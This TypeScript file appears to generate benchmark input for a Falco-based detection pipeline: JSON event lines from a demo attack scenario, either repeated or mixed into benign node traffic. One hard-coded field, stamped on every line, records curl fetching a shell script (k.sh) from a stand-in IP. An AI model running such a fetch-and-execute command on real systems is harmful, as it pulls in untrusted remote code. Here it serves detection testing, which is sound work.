/**
 * Benchmark input: Falco JSON lines shaped like the feed rules' output (the full feed field
 * set, evt.time as 19-digit nanoseconds, missing values as null), plus Falco alerts.
 */
import { stringifyExact } from '../src/core/exact-json.js';
import { formatRfc3339Ns } from '../src/core/time.js';
import { buildScenario } from '../src/demo/scenario.js';

const FEED_FIELDS = [
  'evt.args', 'evt.arg.flags', 'evt.arg.mode', 'evt.arg.uid', 'evt.arg.ruid', 'evt.arg.euid', 'evt.arg.target',
  'evt.arg.linkpath', 'evt.arg.name', 'evt.arg.path', 'evt.arg.fd', 'evt.arg.dev', 'evt.arg.dir', 'evt.arg.type',
  'evt.arg.request', 'evt.arg.pid', 'evt.arg.nstype', 'evt.arg.oldpath', 'evt.arg.newpath', 'proc.aname[2]',
  'proc.aname[3]', 'proc.sid', 'group.gid', 'fd.num', 'fd.type', 'fd.directory', 'fd.filename', 'fd.sip', 'fd.sport',
  'fd.cip', 'fd.cport', 'fd.l4proto', 'container.privileged',
] as const;

/** Widens one scenario event to the feed field set at time `t`, as one JSON line. */
function line(json: Record<string, unknown>, t: bigint): string {
  const fields = json['output_fields'] as Record<string, unknown>;
  for (const f of FEED_FIELDS) if (!(f in fields)) fields[f] = null;
  fields['evt.args'] = 'res=0 exe=/usr/bin/curl args=-s.http://198.51.100.23:8000/k.sh. tid=7411(curl) pid=7411(curl) ptid=7400(sh)';
  fields['proc.sid'] = 1;
  fields['group.gid'] = 0;
  fields['evt.time'] = t;
  json['time'] = formatRfc3339Ns(t);
  return stringifyExact(json);
}

/**
 * `count` JSON lines of the attack story on repeat: the demo scenario again and again with fresh
 * times. A worst case: over half the events raise an alert.
 */
export function benchLines(count: number): string[] {
  const lines: string[] = [];
  let t = 1763990696428114287n;
  while (lines.length < count) {
    for (const { json } of buildScenario(t)) {
      if (lines.length >= count) break;
      t += 1_000_003n;
      lines.push(line(json, t));
    }
  }
  return lines;
}

const BENIGN_EVERY = 200;

/**
 * `count` JSON lines as a busy node sends them: the scenario's benign background (probes,
 * database and DNS connections, log writes, cron, a package manager), its processes and client
 * ports varied so stateful rules see many keys, with the whole attack story (feed events and
 * Falco's alerts) once in every BENIGN_EVERY events.
 */
export function mixedBenchLines(count: number): string[] {
  const lines: string[] = [];
  let t = 1763990696428114287n;
  let n = 0;
  while (lines.length < count) {
    const scenario = buildScenario(t);
    const benign = scenario.filter(({ json }) => /\((liveness probe|database|access log|cron job|package manager|package database|DNS) /.test(String(json['output'])));
    for (let i = 0; i < BENIGN_EVERY && lines.length < count; i++, n++) {
      const { json } = benign[i % benign.length]!;
      const copy = structuredClone(json);
      const fields = copy['output_fields'] as Record<string, unknown>;
      fields['proc.pid'] = 20_000 + (n % 5000);
      if (typeof fields['fd.cport'] === 'number') fields['fd.cport'] = 32_768 + (n % 28_000);
      t += 1_000_003n;
      lines.push(line(copy, t));
    }
    for (const { json } of scenario) {
      if (lines.length >= count) break;
      t += 1_000_003n;
      lines.push(line(json, t));
    }
  }
  return lines;
}
